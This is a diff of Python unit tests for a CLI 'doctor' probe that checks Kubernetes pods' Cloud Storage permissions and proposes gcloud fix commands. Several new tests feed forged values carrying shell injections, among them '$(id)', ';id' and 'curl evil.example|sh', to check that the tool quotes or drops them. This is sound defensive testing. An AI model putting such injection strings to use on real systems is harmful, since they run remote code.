@@ -2,7 +2,7 @@
 
 import dataclasses
 import json
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from typing import Any
 
 import pytest
@@ -10,7 +10,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from finetune_operator.cli.doctor_checks import Finding, State
-from finetune_operator.cli.doctor_probe import Probe, ended, judged, not_tested, probes, refused
+from finetune_operator.cli.doctor_probe import Folder, Probe, probes
+from finetune_operator.cli.doctor_probe_ends import ended, judged, left_over, not_tested, refused
 from finetune_operator.cli.doctor_setup import Setup
 from tests.unit.cli.test_doctor import changed, healthy
 
@@ -21,8 +22,15 @@ def setup(change: Callable[[dict[str, Any]], object] = lambda _: None) -> Setup:
     return dataclasses.replace(healthy(), **changed(change))
 
 
-def probe(stages: str = "cpu") -> Probe:
-    return next(each for each in probes(setup()) if each.stages == stages)
+def probe() -> Probe:
+    """That of ft-cpu, which reads and writes one folder each."""
+    cpu, _ = probes(setup())
+    read, write = (Folder(uri=f"gs://my-bucket/{name}") for name in ("in", "out/team-a"))
+    return dataclasses.replace(cpu, read=[read], write=[write])
+
+
+def uris(folders: Sequence[Folder]) -> list[str]:
+    return [each.uri for each in folders]
 
 
 def pod(phase: str = "Running", *, state: dict[str, Any] | None = None, **status: Any) -> dict[str, Any]:
@@ -41,7 +49,9 @@ def terminated(message: str, code: int = 0) -> dict[str, Any]:
 
 
 def fault(right: str, reason: str = "StoragePermissionDenied", detail: str = "403") -> dict[str, Any]:
-    uri = "gs://my-bucket" if right == "bucket" else "gs://my-bucket/team-a/runs"
+    uri = {"bucket": "gs://my-bucket", "read": "gs://my-bucket/in", "write": "gs://my-bucket/out/team-a"}[
+        right
+    ]
     return terminated(
         json.dumps({"faults": [{"right": right, "uri": uri, "reason": reason, "detail": detail}]}), 77
     )
@@ -54,17 +64,19 @@ def test_each_account_gets_a_pod_with_the_folders_of_its_stages() -> None:
     spec = healthy().profiles[0]["spec"]  # type: ignore[index]
     artifacts, cache = (f"{spec['storage'][name]}/team-a" for name in ("artifacts", "cache"))
     models = "gs://my-project-models/team-a"
-    assert (cpu.account, cpu.read, cpu.write) == ("ft-cpu", [models], [artifacts, cache])
-    assert (tpu.account, tpu.read, tpu.write) == ("ft-train", [models, cache], [artifacts])
+    assert (cpu.account, uris(cpu.read), uris(cpu.write)) == ("ft-cpu", [models], [artifacts, cache])
+    assert (tpu.account, uris(tpu.read), uris(tpu.write)) == ("ft-train", [models, cache], [artifacts])
 
 
 @pytest.mark.parametrize(
     ("pattern", "folder"),
     [
-        ("gs://bucket/team-a/*", "gs://bucket/team-a"),
-        ("gs://bucket/team-a/model-*", "gs://bucket/team-a"),
-        ("gs://bucket/team-a/rows.jsonl", "gs://bucket/team-a/rows.jsonl"),
-        ("gs://bucket/*", "gs://bucket"),
+        ("gs://bucket/team-a/*", Folder(uri="gs://bucket/team-a")),
+        ("gs://bucket/team-a/model-*", Folder(uri="gs://bucket/team-a", own=False)),
+        ("gs://bucket/team-a/rows.jsonl", Folder(uri="gs://bucket/team-a", own=False)),
+        ("gs://bucket/*", Folder(uri="gs://bucket")),
+        ("gs://bucket/team-a-*", Folder(uri="gs://bucket", own=False)),
+        ("gs://bucket", Folder(uri="gs://bucket")),
         ("gs://bucket-*", None),
         ("gs://*", None),
         ("hf://models/*", None),
@@ -72,7 +84,7 @@ def test_each_account_gets_a_pod_with_the_folders_of_its_stages() -> None:
     ],
 )
 def test_a_pattern_is_tried_at_the_folder_that_holds_all_its_matches(
-    pattern: str, folder: str | None
+    pattern: str, folder: Folder | None
 ) -> None:
     (cpu, _) = probes(setup(lambda spec: spec.update(constraints={"uris": {"read": [pattern]}})))
     assert cpu.read == ([folder] if folder else [])
@@ -131,8 +143,13 @@ def test_variables_of_the_profile_replace_those_of_the_probe() -> None:
             "may not read the metadata of gs://my-bucket",
             "finetuneBucketReader",
         ),
-        (fault("read"), State.MISSING, "may not read in", "gs://my-bucket/team-a/ --member principal://"),
-        (fault("write"), State.MISSING, "may not write in", "--role roles/storage.objectUser"),
+        (
+            fault("read"),
+            State.MISSING,
+            "may not read in",
+            "managed-folders add-iam-policy-binding gs://my-bucket/in/ ",
+        ),
+        (fault("write"), State.MISSING, "may not write in", "gs://my-bucket/out/team-a/ --member"),
         (fault("bucket", "InputMissing"), State.MISSING, "does not exist", "gcloud storage buckets create"),
         (fault("read", "StorageUnavailable", "timeout"), State.UNKNOWN, "timeout", "GKE_METADATA"),
         (
@@ -205,6 +222,57 @@ def test_without_the_option_the_report_says_what_was_not_tried() -> None:
     finding = not_tested(setup())
     assert finding.state is State.UNKNOWN
     assert "finetune doctor --probe --namespace team-a" in finding.fix
+
+
+@pytest.mark.parametrize("right", ["read", "write", "bucket", "delete"])
+@pytest.mark.parametrize("reason", ["StoragePermissionDenied", "InputMissing"])
+@pytest.mark.parametrize(
+    "uri", ["gs://my-bucket/out/team-b", "gs://x$(id)", "gs://other", "gs://my-bucket/in;id"]
+)
+def test_a_pod_proposes_no_command_about_what_it_was_not_to_try(right: str, reason: str, uri: str) -> None:
+    """A tenant who replaces the pod, or runs a program in it, writes what the administrator reads."""
+    forged = {"right": right, "uri": uri, "reason": reason, "detail": "403"}
+    found = list(judged(setup(), probe(), terminated(json.dumps({"faults": [forged]}), 77)))
+    assert [each.state for each in found] == [State.OK, State.UNKNOWN]
+    assert "gcloud" not in found[-1].fix
+    assert uri not in found[-1].fix
+
+
+def test_an_annotation_that_is_no_google_account_is_in_no_command() -> None:
+    google = {"iam.gke.io/gcp-service-account": "x@p.iam.gserviceaccount.com; curl evil.example|sh #"}
+    own = [{"metadata": {"name": "ft-cpu", "annotations": google}}]
+    (_, finding) = judged(dataclasses.replace(setup(), accounts=own), probe(), fault("read"))
+    assert "evil.example" not in finding.fix
+    assert "principal://" in finding.fix
+
+
+def test_what_a_profile_names_is_quoted_for_the_shell() -> None:
+    odd = dataclasses.replace(probe(), read=[Folder(uri="gs://my-bucket/a b$(id)")])
+    report = json.loads(fault("read")["status"]["containerStatuses"][0]["state"]["terminated"]["message"])
+    report["faults"][0]["uri"] = "gs://my-bucket/a b$(id)"
+    (_, finding) = judged(setup(), odd, terminated(json.dumps(report), 77))
+    assert "'gs://my-bucket/a b$(id)/'" in finding.fix
+
+
+def test_no_role_is_proposed_on_a_folder_that_holds_more_than_the_account_may_read() -> None:
+    shared = dataclasses.replace(probe(), read=[Folder(uri="gs://my-bucket/in", own=False)])
+    (_, finding) = judged(setup(), shared, fault("read"))
+    assert "gcloud" not in finding.fix
+    assert "folder of its own" in finding.fix
+
+
+def test_only_pods_of_the_command_itself_are_removed_as_left_over() -> None:
+    own = {"name": "finetune-doctor-cpu-x1"}
+    assert left_over({**pod("Failed"), "metadata": own})
+    assert not left_over({**pod("Running"), "metadata": own})
+    assert not left_over({**pod("Failed"), "metadata": {"name": "support-bot-train-1"}})
+    owned = {**own, "ownerReferences": [{"kind": "Job"}]}
+    assert not left_over({**pod("Failed"), "metadata": owned})
+
+
+def test_a_deeply_nested_message_is_judged() -> None:
+    (finding,) = judged(setup(), probe(), terminated("[" * 4000, 1))
+    assert "has no command" in finding.message
 
 
 @given(st.text(max_size=200))
